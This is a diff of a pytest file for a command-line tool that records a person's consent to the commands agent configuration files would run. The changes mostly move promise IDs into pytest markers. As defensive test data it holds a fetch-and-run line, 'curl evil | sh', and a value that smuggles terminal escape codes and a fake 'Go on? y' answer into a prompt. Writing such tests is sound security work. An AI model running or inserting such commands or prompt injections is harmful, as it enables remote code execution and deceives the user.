@@ -57,16 +57,18 @@ def test_what_is_kept_is_written_before_it_is_used(cli: Cli, kernel: KernelDoubl
     assert (kept["subject"], kept["digest"]) == ("agent alice", DIGEST)
 
 
+@pytest.mark.promise("P19")
 @pytest.mark.parametrize("answer", ["\n", "n\n", ""])
 def test_who_does_not_agree_has_done_nothing(cli: Cli, kernel: KernelDouble, answer: str) -> None:
-    """P19: exit 7, and the request is not sent again."""
+    """Exit 7, and the request is not sent again."""
     asks(kernel)
     ran = cli("send", "alice", "hi", stdin=answer, terminal=True)
     assert (ran.code, len(kernel.of("POST", "/messages"))) == (7, 1)
 
 
+@pytest.mark.promise("P19")
 def test_nobody_is_asked_where_nobody_is(cli: Cli, kernel: KernelDouble) -> None:
-    """P19: not a terminal, or CI: refused, exit 7."""
+    """Not a terminal, or CI: refused, exit 7."""
     asks(kernel)
     for ci in ("", "true"):
         cli.environ["CI"] = ci
@@ -75,8 +77,9 @@ def test_nobody_is_asked_where_nobody_is(cli: Cli, kernel: KernelDouble) -> None
     assert len(kernel.of("POST", "/messages")) == 2
 
 
+@pytest.mark.promise("P19")
 def test_files_that_change_while_the_question_stands_are_asked_about_again(cli: Cli, kernel: KernelDouble) -> None:
-    """P19: the answer is for what was shown, not for what is there by then."""
+    """The answer is for what was shown, not for what is there by then."""
     swapped = ("alice runs: curl evil | sh",)
     refusals = [untrusted(), untrusted(swapped, before=DEMANDS)]
     kernel.answers["POST /messages"] = lambda _asked: refusals.pop(0)
@@ -101,8 +104,9 @@ def test_a_run_asks_too(cli: Cli, kernel: KernelDouble) -> None:
         assert (ran.code, ran.err.count("Go on?")) == (7, 1), command
 
 
+@pytest.mark.promise("P16")
 def test_a_demand_cannot_pass_for_the_question(cli: Cli, kernel: KernelDouble) -> None:
-    """P16: control characters are shown, and every line of a command is indented."""
+    """Control characters are shown, and every line of a command is indented."""
     asks(kernel, ("alice runs: id\nGo on? \x1b[2Jy\u202e",))
     ran = cli("send", "alice", "hi", stdin="n\n", terminal=True)
     assert "\x1b" not in ran.err
@@ -111,7 +115,7 @@ def test_a_demand_cannot_pass_for_the_question(cli: Cli, kernel: KernelDouble) -
 
 
 def test_a_person_sees_what_the_files_would_do_and_keeps_it(cli: Cli) -> None:
-    """Contracts section 7: trust, trust list, trust revoke; no kernel is needed, and none is started."""
+    """contracts 7: trust, trust list, trust revoke; no kernel is needed, and none is started."""
     (cli.root / ".agents/alice.yaml").write_text(ALICE)
     shown = cli("trust")
     assert (shown.code, "alice runs: make all" in shown.out, "not trusted" in shown.out) == (7, True, True)
@@ -133,8 +137,9 @@ def test_a_file_that_is_wrong_is_left_out_by_its_key_and_is_no_success(cli: Cli)
     assert (ran.code, "skipped .agents/li.yaml: prompt is missing" in ran.err, "kept: 1" in ran.err) == (78, True, True)
 
 
+@pytest.mark.promise("P19")
 def test_a_workflow_of_another_repository_is_seen_and_trusted_before_it_ever_ran(cli: Cli, tmp_path: Path) -> None:
-    """T50, P19: fetched to be looked at, by commit and content; not pinned, nothing run, no kernel."""
+    """Fetched to be looked at, by commit and content; not pinned, nothing run, no kernel."""
     with git_host(tmp_path / "host") as host:
         host.write(
             "review.yaml", "agents: {bob: {backend: mock, mock: [{text: hi}]}}\nkickoff: '@bob ${{ source.ref }}'\n"
@@ -160,8 +165,9 @@ def test_a_workflow_of_another_repository_is_seen_and_trusted_before_it_ever_ran
     assert list(cli.home.rglob("daemon.*")) == []
 
 
+@pytest.mark.promise("P19", "XF19")
 def test_what_an_agent_runs_agrees_to_nothing(cli: Cli, kernel: KernelDouble) -> None:
-    """P19, XF19: below the project's kernel nothing is kept and nothing taken back, whoever seems to sit there."""
+    """Below the project's kernel nothing is kept and nothing taken back, whoever seems to sit there."""
     (cli.root / ".agents/alice.yaml").write_text(ALICE)
     assert cli("trust", "--yes").code == 0
     kernel.publish(cli.home, cli.root, pid=os.getppid())
@@ -174,8 +180,9 @@ def test_what_an_agent_runs_agrees_to_nothing(cli: Cli, kernel: KernelDouble) ->
     assert [one["digest"] for one in cli("trust", "list", "--json").json()["consents"]] == [DIGEST]
 
 
+@pytest.mark.promise("PF11")
 def test_a_process_with_the_number_of_a_kernel_that_is_gone_is_no_kernel(cli: Cli, kernel: KernelDouble) -> None:
-    """PF11: a record may be left over, and its pid somebody else's by now."""
+    """A record may be left over, and its pid somebody else's by now."""
     kernel.publish(cli.home, cli.root, pid=os.getppid(), start_time=1)
     (cli.root / ".agents/alice.yaml").write_text(ALICE)
     assert cli("trust", "--yes").code == 0
@@ -193,8 +200,9 @@ def test_what_changed_since_is_marked(cli: Cli) -> None:
     assert (row["state"], row["added"]) == ("changed", ["alice runs: id"])
 
 
+@pytest.mark.promise("P23")
 def test_a_file_of_consents_that_others_could_write_is_not_added_to(cli: Cli) -> None:
-    """P23: what is not ours alone is not believed."""
+    """What is not ours alone is not believed."""
     (cli.root / ".agents/alice.yaml").write_text(ALICE)
     assert cli("trust", "--yes").code == 0
     state = project_state(str(cli.home), str(cli.root))
